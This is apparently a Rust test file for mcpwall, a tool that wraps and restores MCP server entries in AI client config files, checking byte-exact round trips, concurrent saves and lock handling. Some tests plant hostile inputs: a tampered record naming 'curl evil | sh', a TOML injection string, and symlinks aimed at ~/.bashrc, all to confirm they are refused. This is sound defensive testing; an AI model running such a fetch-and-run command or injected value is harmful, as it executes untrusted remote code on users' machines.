                    .prop_map(|m| Value::Object(m.into_iter().collect())),
            ]
        })
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]

        /// The span reader sees the same document serde_json does, and every span holds
        /// exactly that value's text.
        #[test]
        fn span_reader_agrees_with_serde_json(value in json_value(), pretty in any::<bool>()) {
            let text = if pretty {
                serde_json::to_string_pretty(&value).unwrap()
            } else {
                serde_json::to_string(&value).unwrap()
            };
            // Compare with serde_json's reading of the text (floats need not round-trip).
            let expected: Value = serde_json::from_str(&text).unwrap();
            for dialect in [Dialect::Json, Dialect::Jsonc] {
                let root = parse(&text, dialect).unwrap();
                prop_assert_eq!(to_value(&text, &root), expected.clone());
                prop_assert_eq!(root.span.clone(), 0..text.len());
            }
        }

        /// Garbage never panics the reader, in either dialect.
        #[test]
        fn span_reader_never_panics(text in "\\PC{0,40}|[\\[\\]{}\":,/* \\\\a-z0-9\n-]{0,40}") {
            let _ = parse(&text, Dialect::Json);
            let _ = parse(&text, Dialect::Jsonc);
        }

        #[test]
        fn wrap_then_back_is_byte_exact(
            entries in proptest::collection::vec(entry_strategy(), 1..4)
                .prop_filter("unique names", |es| {
                    let mut names: Vec<_> = es.iter().map(|e| &e.name).collect();
                    names.sort();
                    names.dedup();
                    names.len() == es.len()
                }),
            style in style_strategy(),
            pick in any::<prop::sample::Index>(),
        ) {
            let dialect = if style.comments { Dialect::Jsonc } else { Dialect::Json };
            let text = render(&entries, &style);
            let entry = pick.get(&entries);
            let path = vec!["mcpServers".to_string(), entry.name.clone()];
            let original_entry = edit::entry_bytes(&text, edit::Format::Json(dialect), &path).unwrap();

            let wrapped = edit::wrap(&text, edit::Format::Json(dialect), &path, &entry.name, "/opt/mcp wall/mcpwall").unwrap();

            // The entry is exactly the documented wrapped form; nothing else changed.
            let mut expected = value_of(&text, dialect);
            let mut inner_args = vec![
                Value::from("--server-name"),
                Value::from(entry.name.clone()),
                Value::from("--"),
                Value::from(entry.command.clone()),
            ];
            inner_args.extend(entry.args.iter().flatten().map(|a| Value::from(a.clone())));
            expected["mcpServers"][&entry.name]["command"] = Value::from("/opt/mcp wall/mcpwall");
            expected["mcpServers"][&entry.name]["args"] = Value::Array(inner_args);
            prop_assert_eq!(value_of(&wrapped, dialect), expected);
            if !style.comments {
                prop_assert!(serde_json::from_str::<Value>(&wrapped).is_ok());
            }
            // Line ends follow the file's: no bare `\n` appears in a CRLF file.
            if !text.replace("\r\n", "").contains('\n') {
                prop_assert!(!wrapped.replace("\r\n", "").contains('\n'), "{:?}", wrapped);
            }

            // Detected as wrapped, with the real command recovered.
            let root = parse(&wrapped, dialect).unwrap();
            match EntryState::of(root.at(&path).unwrap()) {
                EntryState::Wrapped { command, args, .. } => {
                    prop_assert_eq!(&command, &entry.command);
                    prop_assert_eq!(&args, &entry.args.clone().unwrap_or_default());
                }
                other => prop_assert!(false, "not detected as wrapped: {:?}", other),
            }

            // Every way back is byte-exact.
            prop_assert_eq!(&edit::restore_exact(&wrapped, edit::Format::Json(dialect), &path, &original_entry).unwrap(), &text);
            prop_assert_eq!(&edit::restore_command(&wrapped, edit::Format::Json(dialect), &path, &original_entry).unwrap(), &text);
            if entry.args.as_ref().is_some_and(|a| !a.is_empty()) {
                prop_assert_eq!(&edit::strip_wrapper(&wrapped, edit::Format::Json(dialect), &path).unwrap(), &text);
            }
        }
    }

    /// Codex's TOML in several layouts: `[mcp_servers.<name>]` tables (two indents, two
    /// `=` spacings, CRLF, trailing comments, multi-line args) and inline tables.
    fn render_toml(entries: &[Entry], style: &Style) -> String {
        let nl = if style.crlf { "\r\n" } else { "\n" };
        let eq = if style.colon == ":" { "=" } else { " = " };
        let ind = style.indent.unwrap_or("");
        let s = |v: &str| serde_json::to_string(v).unwrap();
        let comment = |what: &str| {
            if style.comments {
                format!(" # {what}")
            } else {
                String::new()
            }
        };
        let toml_value = |v: &Value| match v {
            Value::Object(m) => format!(
                "{{ {} }}",
                m.iter()
                    .map(|(k, v)| format!("{k} = {v}"))
                    .collect::<Vec<_>>()
                    .join(", ")
            ),
            other => other.to_string(),
        };
        let mut out = format!("model = \"o3\"{nl}");
        if style.trailing_newline {
            // Inline tables under one [mcp_servers] header.
            out.push_str(&format!("{nl}[mcp_servers]{nl}"));
            for e in entries {
                let mut members = vec![format!("command{eq}{}", s(&e.command))];
                if let Some(args) = &e.args {
                    let items: Vec<_> = args.iter().map(|a| s(a)).collect();
                    members.push(format!("args{eq}[{}]", items.join(", ")));
                }
                for (k, v) in &e.extra {
                    members.push(format!("{k}{eq}{}", toml_value(v)));
                }
                out.push_str(&format!("{} = {{ {} }}{nl}", e.name, members.join(", ")));
            }
            return out;
        }
        for e in entries {
            out.push_str(&format!(
                "{nl}[mcp_servers.{}]{}{nl}",
                e.name,
                comment("server")
            ));
            out.push_str(&format!(
                "{ind}command{eq}{}{}{nl}",
                s(&e.command),
                comment("cmd")
            ));
            if let Some(args) = &e.args {
                let items: Vec<_> = args.iter().map(|a| s(a)).collect();
                if style.indent.is_some() && !items.is_empty() {
                    out.push_str(&format!("{ind}args{eq}[{nl}"));
                    for item in items {
                        out.push_str(&format!("{ind}{ind}  {item},{nl}"));
                    }
                    out.push_str(&format!("{ind}]{nl}"));
                } else {
                    out.push_str(&format!("{ind}args{eq}[{}]{nl}", items.join(", ")));
                }
            }
            for (k, v) in &e.extra {
                out.push_str(&format!("{ind}{k}{eq}{}{nl}", toml_value(v)));
            }
        }
        out
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn toml_wrap_then_back_is_byte_exact(
            entries in proptest::collection::vec(entry_strategy(), 1..4)
                .prop_filter("unique names", |es| {
                    let mut names: Vec<_> = es.iter().map(|e| &e.name).collect();
                    names.sort();
                    names.dedup();
                    names.len() == es.len()
                }),
            style in style_strategy(),
            pick in any::<prop::sample::Index>(),
        ) {
            let format = edit::Format::Toml;
            let text = render_toml(&entries, &style);
            let entry = pick.get(&entries);
            let path = vec!["mcp_servers".to_string(), entry.name.clone()];
            let root = edit::parse(&text, format).unwrap_or_else(|e| panic!("{text}\n{e}"));
            let original_entry = edit::entry_bytes(&text, format, &path).unwrap();

            let wrapped = edit::wrap(&text, format, &path, &entry.name, "/opt/mcp wall/mcpwall").unwrap();

            let mut expected = to_value(&text, &root);
            let mut inner_args = vec![
                Value::from("--server-name"),
                Value::from(entry.name.clone()),
                Value::from("--"),
                Value::from(entry.command.clone()),
            ];
            inner_args.extend(entry.args.iter().flatten().map(|a| Value::from(a.clone())));
            expected["mcp_servers"][&entry.name]["command"] = Value::from("/opt/mcp wall/mcpwall");
            expected["mcp_servers"][&entry.name]["args"] = Value::Array(inner_args);
            let after = edit::parse(&wrapped, format).unwrap_or_else(|e| panic!("{wrapped}\n{e}"));
            // Key order may differ (a new `args` lands after `command`); compare as maps.
            prop_assert_eq!(to_value(&wrapped, &after), expected);
            if style.crlf {
                prop_assert!(!wrapped.replace("\r\n", "").contains('\n'), "{:?}", wrapped);
            }
            match EntryState::of(after.at(&path).unwrap()) {
                EntryState::Wrapped { command, args, .. } => {
                    prop_assert_eq!(&command, &entry.command);
                    prop_assert_eq!(&args, &entry.args.clone().unwrap_or_default());
                }
                other => prop_assert!(false, "not detected as wrapped: {:?}", other),
            }
            prop_assert_eq!(&edit::restore_exact(&wrapped, format, &path, &original_entry).unwrap(), &text);
            prop_assert_eq!(&edit::restore_command(&wrapped, format, &path, &original_entry).unwrap(), &text);
            if entry.args.as_ref().is_some_and(|a| !a.is_empty()) {
                prop_assert_eq!(&edit::strip_wrapper(&wrapped, format, &path).unwrap(), &text);
            }
        }
    }
}

/// `init` in a terminal (a pty from util-linux `script`): numbered choice, then the
/// question before replacing an existing policy.
#[cfg(target_os = "linux")]
#[test]
fn init_asks_which_servers_and_before_replacing_in_a_terminal() {
    use std::io::Write;
    let sandbox = sandbox_before();
    let mine = "version: 1\nextends: [default]\n";
    sandbox.write("home/.mcpwall/mcpwall.yml", mine);
    let bin_dir = Path::new(MCPWALL).parent().unwrap();
    let mut child = Command::new("script")
        .args([
            "-qec",
            &format!("{MCPWALL} init --profile local-dev"),
            "/dev/null",
        ])
        .current_dir(sandbox.project())
        .env_clear()
        .env("HOME", sandbox.home())
        .env("PATH", format!("{}:/usr/bin:/bin", bin_dir.display()))
        .env("TERM", "dumb")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("util-linux `script` is needed for the terminal test");
    let mut stdin = child.stdin.take().unwrap();
    // 1 filesystem, 2 sentry (a remote server), 3 postgres, 4 git.
    stdin.write_all(b"1,4\ny\n").unwrap();
    let lines = read_lines_with_timeout(child.stdout.take().unwrap(), 20);
    drop(stdin);
    let _ = child.wait();
    let transcript = lines.join("\n");
    assert!(transcript.contains("wrap which servers?"), "{transcript}");
    assert!(
        transcript.contains("exists and differs; replace it"),
        "{transcript}"
    );
    let claude = sandbox.read("home/.claude.json");
    let filesystem = claude.find("\"filesystem\"").unwrap();
    assert!(
        claude[filesystem..].starts_with(
            "\"filesystem\": {\n      \"type\": \"stdio\",\n      \"command\": \"mcpwall\""
        ),
        "{claude}"
    );
    assert!(
        claude.contains("\"command\": \"uvx\",\n          \"args\": [\"mcp-server-postgres\""),
        "choice 3 was not picked: {claude}"
    );
    assert!(
        claude.contains("\"type\": \"http\",\n      \"url\": \"https://mcp.sentry.dev/mcp\""),
        "choice 2 was not picked: {claude}"
    );
    assert!(
        sandbox
            .read("project/.mcp.json")
            .contains("\"args\": [ \"--server-name\", \"git\"")
    );
    assert!(
        sandbox
            .read("project/.mcp.json")
            .contains("\"puppeteer\": {\"command\": \"npx\"")
    );
    assert_eq!(
        sandbox.read("home/.mcpwall/mcpwall.yml"),
        mcpwall::cli::init::config_text("local-dev")
    );
}

#[test]
fn a_duplicated_name_is_wrapped_once_where_clients_read_it() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "project/.mcp.json",
        "{\"mcpServers\": {\"x\": {\"command\": \"old\"}, \"x\": {\"command\": \"new\"}}}",
    );
    let out = sandbox.run_client(&["wrap", "x"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert_eq!(
        sandbox.read("project/.mcp.json"),
        "{\"mcpServers\": {\"x\": {\"command\": \"old\"}, \"x\": {\"command\": \"mcpwall\", \"args\": [\"--server-name\", \"x\", \"--\", \"new\"]}}}"
    );
    let status = sandbox.stdout(&sandbox.run_client(&["status"]));
    assert!(status.contains("1 of 1 server(s) protected"), "{status}");
}

#[test]
fn wrap_repoints_an_entry_whose_mcpwall_is_gone() {
    let sandbox = Sandbox::new();
    let stale = "{\n  \"mcpServers\": {\n    \"x\": {\n      \"command\": \"/gone/bin/mcpwall\",\n      \"args\": [\"--server-name\", \"x\", \"--\", \"sh\"],\n      \"env\": {}\n    }\n  }\n}\n";
    sandbox.write("home/.claude.json", stale);
    let doctor = sandbox.stdout(&sandbox.run_client(&["doctor"]));
    assert!(
        doctor.contains("the mcpwall command `/gone/bin/mcpwall` in ~/.claude.json is not found")
            && doctor.contains("fix: run `mcpwall wrap x` to point it at this mcpwall"),
        "{doctor}"
    );
    let out = sandbox.run_client(&["wrap", "x"]);
    let stdout = sandbox.stdout(&out);
    assert!(
        stdout.contains("re-pointed       x: `/gone/bin/mcpwall` no longer exists"),
        "{stdout}"
    );
    assert_eq!(
        sandbox.read("home/.claude.json"),
        stale.replace("/gone/bin/mcpwall", "mcpwall")
    );
    let out = sandbox.run_client(&["wrap", "x"]);
    assert!(sandbox.stdout(&out).contains("already wrapped"));
    let out = sandbox.run_client(&["unwrap", "x"]);
    assert_eq!(code(&out), 0);
    assert_eq!(
        sandbox.read("home/.claude.json"),
        "{\n  \"mcpServers\": {\n    \"x\": {\n      \"command\": \"sh\",\n      \"args\": [],\n      \"env\": {}\n    }\n  }\n}\n"
    );
}

#[test]
fn absolute_path_writes_this_binarys_path_even_when_on_path() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "home/.cursor/mcp.json",
        "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}",
    );
    let out = sandbox.run_client(&["wrap", "x", "--absolute-path"]);
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    let file: serde_json::Value =
        serde_json::from_str(&sandbox.read("home/.cursor/mcp.json")).unwrap();
    let command = file["mcpServers"]["x"]["command"].as_str().unwrap();
    assert!(Path::new(command).is_absolute(), "{command}");
    assert_eq!(
        std::fs::canonicalize(command).unwrap(),
        std::fs::canonicalize(MCPWALL).unwrap()
    );
}

/// Codex reads a trusted project's servers from `<project>/.codex/config.toml` too; wrapping
/// one there edits only its `command` and `args`.
#[test]
fn codex_project_config_is_found_and_wrapped() {
    let sandbox = Sandbox::new();
    let original = "# team servers\n[mcp_servers.notes]\ncommand = \"npx\"\nargs = [\"-y\", \"notes-server\"]\n";
    sandbox.write("project/.codex/config.toml", original);
    let out = sandbox.run_client(&["wrap", "notes", "--client", "codex"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    let wrapped = sandbox.read("project/.codex/config.toml");
    assert!(
        wrapped.starts_with("# team servers\n[mcp_servers.notes]\n"),
        "{wrapped}"
    );
    assert!(wrapped.contains("command = \"mcpwall\""), "{wrapped}");
    assert!(
        wrapped.contains("\"--\", \"npx\", \"-y\", \"notes-server\""),
        "{wrapped}"
    );
    let out = sandbox.run_client(&["unwrap", "notes"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert_eq!(sandbox.read("project/.codex/config.toml"), original);
}

// Issue 29: never lose a user's byte.

/// A client saving its file (temp file + rename, as careful clients do) in a loop while
/// `wrap` and `unwrap` run: before each save it checks that its previous save is still
/// there. Zero lost saves over every iteration, and mcpwall still gets its edits in.
#[test]
fn r29_client_saves_during_wrap_and_unwrap_are_never_lost() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};
    let sandbox = Sandbox::new();
    let rel = "home/.cursor/mcp.json";
    sandbox.write(
        rel,
        "{\n  \"n\": 0,\n  \"mcpServers\": {\n    \"x\": { \"command\": \"srv\" }\n  }\n}\n",
    );
    let file = sandbox.root().join(rel);
    let stop = Arc::new(AtomicBool::new(false));
    let writer = {
        let (file, stop) = (file.clone(), stop.clone());
        std::thread::spawn(move || {
            let temp = file.with_file_name(".client-save.tmp");
            let (mut saves, mut lost, mut glimpses) = (0u64, Vec::new(), 0u64);
            let mut last = 0u64;
            let mut seed = 0x9e37_79b9_7f4a_7c15u64;
            let read = |file: &std::path::Path| {
                let text = std::fs::read_to_string(file).unwrap();
                let value: serde_json::Value = serde_json::from_str(&text)
                    .unwrap_or_else(|e| panic!("torn file: {e}\n{text}"));
                (value["n"].as_u64().unwrap(), text)
            };
            while !stop.load(Ordering::Relaxed) {
                let (mut n, mut text) = read(&file);
                if n != last {
                    // A save that landed just before mcpwall's exchange is seen behind
                    // mcpwall's version for the moment it takes to swap it back (the
                    // documented window, docs/clients.md); it is lost only if it stays so.
                    std::thread::sleep(std::time::Duration::from_millis(20));
                    (n, text) = read(&file);
                    if n == last {
                        glimpses += 1;
                    }
                }
                if n != last {
                    lost.push((last, n));
                }
                let next =
                    text.replacen(&format!("\"n\": {n}"), &format!("\"n\": {}", last + 1), 1);
                std::fs::write(&temp, next).unwrap();
                std::fs::rename(&temp, &file).unwrap();
                last += 1;
                saves += 1;
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                std::thread::sleep(std::time::Duration::from_micros(seed % 1500));
            }
            (saves, lost, last, glimpses)
        })
    };
    let started = std::time::Instant::now();
    let (mut runs, mut edited) = (0, 0);
    while started.elapsed() < std::time::Duration::from_secs(8) {
        // The verb follows the entry's state in the file: after a run that gave up (the
        // file kept changing), the next run tries the same edit again rather than one
        // with nothing to do.
        let wrapped = std::fs::read_to_string(&file).is_ok_and(|t| t.contains("mcpwall"));
        let verb = if wrapped { "unwrap" } else { "wrap" };
        let out = sandbox.run_client(&[verb, "x"]);
        runs += 1;
        let stdout = sandbox.stdout(&out);
        if code(&out) == 0 && (stdout.contains("wrapped          x") || stdout.contains("restored"))
        {
            edited += 1;
        }
    }
    stop.store(true, Ordering::Relaxed);
    let (saves, lost, last, glimpses) = writer.join().unwrap();
    eprintln!(
        "{saves} client saves, {runs} mcpwall runs, {edited} edits made, \
         {glimpses} saves seen behind mcpwall's version for a moment"
    );
    let value: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    assert_eq!(
        value["n"].as_u64(),
        Some(last),
        "the client's last save is lost"
    );
    assert!(
        lost.is_empty(),
        "{} of {saves} client saves lost during {runs} mcpwall runs: {lost:?}",
        lost.len()
    );
    assert!(saves > 1000, "only {saves} saves");
    assert!(
        edited * 4 > runs,
        "mcpwall got only {edited} of {runs} edits in"
    );
}

/// Two `mcpwall wrap` runs at once, on one file and on two files: both changes and both
/// records survive, every time.
#[test]
fn r29_concurrent_runs_lose_no_change_or_record() {
    for round in 0..30 {
        let sandbox = Sandbox::new();
        let two_files = round % 2 == 1;
        if two_files {
            sandbox.write(
                "project/.mcp.json",
                "{\"mcpServers\": {\"a\": {\"command\": \"srv-a\"}}}\n",
            );
            sandbox.write(
                "home/.cursor/mcp.json",
                "{\"mcpServers\": {\"b\": {\"command\": \"srv-b\"}}}\n",
            );
        } else {
            sandbox.write(
                "project/.mcp.json",
                "{\"mcpServers\": {\"a\": {\"command\": \"srv-a\"}, \"b\": {\"command\": \"srv-b\"}}}\n",
            );
        }
        let children: Vec<_> = ["a", "b"]
            .iter()
            .map(|name| sandbox.client_command(&["wrap", name]).spawn().unwrap())
            .collect();
        for child in children {
            let out = child.wait_with_output().unwrap();
            assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stdout));
        }
        let mut all = sandbox.read("project/.mcp.json");
        if two_files {
            all.push_str(&sandbox.read("home/.cursor/mcp.json"));
        }
        for inner in ["srv-a", "srv-b"] {
            assert!(
                all.contains(&format!("\"--\", \"{inner}\"")),
                "round {round}: a wrap was lost:\n{all}"
            );
        }
        let records: serde_json::Value =
            serde_json::from_str(&sandbox.read("home/.mcpwall/wrapped.json")).unwrap();
        assert_eq!(
            records["entries"].as_array().unwrap().len(),
            2,
            "round {round}: a record was lost: {records}"
        );
    }
}

/// A hostile repository plants symlinks at the names a temp file could get (the old
/// `.<name>.mcpwall-<pid>.tmp` for the next PIDs): none is followed, nothing outside the
/// target is written, and the links stay as they were.
#[cfg(target_os = "linux")]
#[test]
fn r29_planted_symlinks_at_temp_names_are_never_followed() {
    let sandbox = Sandbox::new();
    sandbox.write("home/.bashrc", "# mine\n");
    sandbox.write(
        "project/.vscode/mcp.json",
        "{\n  \"servers\": {\n    \"x\": { \"command\": \"srv\" }\n  }\n}\n",
    );
    let dir = sandbox.project().join(".vscode");
    let last: u32 = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")
        .ok()
        .and_then(|s| s.trim().parse().ok())
        .unwrap_or(1);
    let victim = sandbox.home().join(".bashrc");
    let mut planted = Vec::new();
    for pid in last + 1..last + 400 {
        let link = dir.join(format!(".mcp.json.mcpwall-{pid}.tmp"));
        let to = if pid % 2 == 0 {
            victim.clone()
        } else {
            sandbox.home().join(format!("planted-{pid}"))
        };
        std::os::unix::fs::symlink(&to, &link).unwrap();
        planted.push((link, to));
    }
    let out = sandbox.run_client(&["wrap", "x"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert_eq!(sandbox.read("home/.bashrc"), "# mine\n");
    for (link, to) in &planted {
        assert_eq!(&std::fs::read_link(link).unwrap(), to);
    }
    let stray: Vec<_> = std::fs::read_dir(sandbox.home())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("planted-"))
        .collect();
    assert!(
        stray.is_empty(),
        "written through a planted link: {stray:?}"
    );
    assert!(
        sandbox
            .read("project/.vscode/mcp.json")
            .contains("\"--\", \"srv\"")
    );
}

/// `unwrap` takes off only what mcpwall added: args and env edited after wrapping stay.
#[test]
fn r29_unwrap_keeps_later_edits_to_args_and_env() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "project/.mcp.json",
        "{\"mcpServers\": {\"x\": {\"command\": \"srv\", \"args\": [\"a\"]}}}\n",
    );
    assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
    let wrapped = sandbox.read("project/.mcp.json");
    let edited = wrapped.replace(
        "\"srv\", \"a\"]",
        "\"srv\", \"a\", \"--verbose\"], \"env\": {\"K\": \"v\"}",
    );
    assert_ne!(edited, wrapped);
    sandbox.write("project/.mcp.json", &edited);
    let out = sandbox.run_client(&["unwrap", "x"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert!(
        sandbox
            .stdout(&out)
            .contains("your later edits to the entry were kept")
    );
    assert_eq!(
        sandbox.read("project/.mcp.json"),
        "{\"mcpServers\": {\"x\": {\"command\": \"srv\", \"args\": [\"a\", \"--verbose\"], \"env\": {\"K\": \"v\"}}}}\n"
    );
}

/// A wrapped server the user replaced by another of the same name: the stale record never
/// brings the old one back.
#[test]
fn r29_a_replaced_server_is_never_restored_from_a_stale_record() {
    let sandbox = Sandbox::new();
    let rel = "project/.mcp.json";
    sandbox.write(
        rel,
        "{\"mcpServers\": {\"x\": {\"command\": \"old-srv\", \"args\": [\"old\"]}}}\n",
    );
    assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
    // Replaced by a plain server: left alone, and said so.
    let plain = "{\"mcpServers\": {\"x\": {\"command\": \"new-srv\"}}}\n";
    sandbox.write(rel, plain);
    let out = sandbox.run_client(&["unwrap", "x"]);
    assert_eq!(code(&out), 0);
    assert!(
        sandbox.stdout(&out).contains("left as it is"),
        "{}",
        sandbox.stdout(&out)
    );
    assert_eq!(sandbox.read(rel), plain);
    // Wrapped again, then replaced by another wrapped server (pasted from elsewhere).
    assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
    sandbox.write(
        rel,
        "{\"mcpServers\": {\"x\": {\"command\": \"mcpwall\", \"args\": [\"--\", \"other\", \"z\"]}}}\n",
    );
    let out = sandbox.run_client(&["unwrap", "x"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert_eq!(
        sandbox.read(rel),
        "{\"mcpServers\": {\"x\": {\"command\": \"other\", \"args\": [\"z\"]}}}\n"
    );
}

/// Codex: a server name with U+007F is written as valid TOML and unwrapped byte for byte;
/// a damaged record is never written into the file.
#[test]
fn r29_toml_names_with_control_characters_and_damaged_records() {
    let sandbox = Sandbox::new();
    let rel = "home/.codex/config.toml";
    let original = "[mcp_servers.\"a\\u007Fb\"]\ncommand = \"srv\"\n\n[mcp_servers.n.env]\nK = \"v\"\n\n[mcp_servers.n]\ncommand = \"notes\"\n";
    sandbox.write(rel, original);
    let out = sandbox.run_client(&["wrap", "a\u{7f}b"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    let wrapped = sandbox.read(rel);
    toml_edit::Document::parse(wrapped.as_str()).unwrap_or_else(|e| panic!("{e}\n{wrapped}"));
    assert_eq!(code(&sandbox.run_client(&["unwrap", "a\u{7f}b"])), 0);
    assert_eq!(sandbox.read(rel), original);

    assert_eq!(code(&sandbox.run_client(&["wrap", "n"])), 0);
    let wrapped = sandbox.read(rel);
    let records_path = sandbox.home().join(".mcpwall/wrapped.json");
    let mut records: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&records_path).unwrap()).unwrap();
    let good = records["entries"][0]["original"].clone();
    records["entries"][0]["original"] =
        serde_json::Value::String(r#"{"command":"\"notes\"\n[evil]\nk = 1","args":null}"#.into());
    std::fs::write(&records_path, records.to_string()).unwrap();
    // The damaged record is refused with the reason; the entry is left as it is.
    let out = sandbox.run_client(&["unwrap", "n"]);
    let stdout = sandbox.stdout(&out);
    assert_eq!(code(&out), 1, "{stdout}");
    assert!(
        stdout.contains("wrap record") && stdout.contains("damaged"),
        "{stdout}"
    );
    assert_eq!(sandbox.read(rel), wrapped);
    // Repaired, it is used: the original comes back byte for byte.
    records["entries"][0]["original"] = good;
    std::fs::write(&records_path, records.to_string()).unwrap();
    let out = sandbox.run_client(&["unwrap", "n"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert_eq!(sandbox.read(rel), original);
}

/// A hand-edited record (its `original` names another command, or it is for another
/// client) is refused before use, so it never reaches the client's file: without the check
/// the edited `original` would be spliced in or silently ignored.
#[test]
fn r29_hand_edited_records_are_refused_before_use() {
    let sandbox = Sandbox::new();
    let rel = "project/.mcp.json";
    let text = "{\"mcpServers\": {\"x\": {\"command\": \"srv\", \"args\": [\"a\"]}}}\n";
    sandbox.write(rel, text);
    assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
    let wrapped = sandbox.read(rel);
    let records_path = sandbox.home().join(".mcpwall/wrapped.json");
    let pristine = std::fs::read_to_string(&records_path).unwrap();
    let edits: [(&str, serde_json::Value); 4] = [
        (
            "original",
            serde_json::json!("{\"command\": \"curl evil | sh\", \"args\": [\"a\"]}"),
        ),
        ("original", serde_json::json!("{\"command\": 7}")),
        ("client", serde_json::json!("codex")),
        ("wrapped_at", serde_json::json!("yesterday")),
    ];
    for (key, value) in edits {
        let mut records: serde_json::Value = serde_json::from_str(&pristine).unwrap();
        records["entries"][0][key] = value.clone();
        std::fs::write(&records_path, records.to_string()).unwrap();
        let out = sandbox.run_client(&["unwrap", "x"]);
        let stdout = sandbox.stdout(&out);
        assert_eq!(code(&out), 1, "{key}={value}: {stdout}");
        assert!(stdout.contains("damaged"), "{key}={value}: {stdout}");
        assert_eq!(sandbox.read(rel), wrapped, "{key}={value}");
        // doctor finds it too.
        let doctor = sandbox.stdout(&sandbox.run_client(&["doctor"]));
        assert!(
            doctor.contains("damaged record(s)"),
            "{key}={value}: {doctor}"
        );
        // The refused record is kept for the user to repair.
        let left: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&records_path).unwrap()).unwrap();
        assert_eq!(left["entries"].as_array().unwrap().len(), 1);
    }
    std::fs::write(&records_path, &pristine).unwrap();
    assert_eq!(code(&sandbox.run_client(&["unwrap", "x"])), 0);
    assert_eq!(sandbox.read(rel), text);
}

/// A program holding a lock on the client file itself (an editor, a sync tool, an mcpwall
/// run under another HOME): `wrap` waits for it and writes nothing meanwhile.
#[cfg(unix)]
#[test]
fn r29_wrap_waits_for_a_lock_on_the_client_file() {
    let sandbox = Sandbox::new();
    let rel = "project/.mcp.json";
    let text = "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n";
    sandbox.write(rel, text);
    let holder = std::fs::File::open(sandbox.project().join(".mcp.json")).unwrap();
    holder.lock().unwrap();
    let child = sandbox.client_command(&["wrap", "x"]).spawn().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(1500));
    assert_eq!(
        sandbox.read(rel),
        text,
        "written while another program held the lock"
    );
    drop(holder);
    let out = child.wait_with_output().unwrap();
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert!(sandbox.read(rel).contains("\"--\", \"srv\""));
}

/// `settings.backups` in ~/.mcpwall/config.yml bounds the backups kept per file; the same
/// setting in an untrusted project file is ignored (it could delete the user's backups).
#[test]
fn r29_backups_follow_the_users_setting() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "project/.mcp.json",
        "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n",
    );
    sandbox.write(
        "home/.mcpwall/config.yml",
        "version: 1\nextends: [default]\nsettings:\n  backups: {keep: 3, max_age_days: 7}\n",
    );
    let backups = |sandbox: &Sandbox| {
        std::fs::read_dir(sandbox.home().join(".mcpwall/backups"))
            .map(|d| d.count())
            .unwrap_or(0)
    };
    for _ in 0..3 {
        assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
        assert_eq!(code(&sandbox.run_client(&["unwrap", "x"])), 0);
    }
    assert_eq!(backups(&sandbox), 3);
    sandbox.write(
        "project/.mcpwall.yml",
        "version: 1\nsettings:\n  backups: {keep: 1}\n",
    );
    assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
    assert_eq!(
        backups(&sandbox),
        3,
        "an untrusted project file pruned the user's backups"
    );
    // A bad value is refused with its place in the file, as every setting is.
    sandbox.write(
        "home/.mcpwall/config.yml",
        "version: 1\nsettings:\n  backups: {keep: 0}\n",
    );
    let out = sandbox.run_client(&["explain-policy"]);
    assert_ne!(code(&out), 0);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("backups.keep"), "{stderr}");
}

/// Run as root (`sudo -E`), mcpwall gives the file back to its owner, with its mode.
#[cfg(unix)]
#[test]
fn r29_owner_group_and_mode_are_kept() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("skipped: needs root to give the file to another user");
        return;
    }
    let sandbox = Sandbox::new();
    sandbox.write(
        "home/.cursor/mcp.json",
        "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}\n",
    );
    let file = sandbox.home().join(".cursor/mcp.json");
    std::os::unix::fs::chown(&file, Some(4242), Some(4343)).unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o640)).unwrap();
    assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
    let meta = std::fs::metadata(&file).unwrap();
    assert_eq!(
        (meta.uid(), meta.gid(), meta.mode() & 0o777),
        (4242, 4343, 0o640)
    );
    assert!(sandbox.read("home/.cursor/mcp.json").contains("mcpwall"));
}

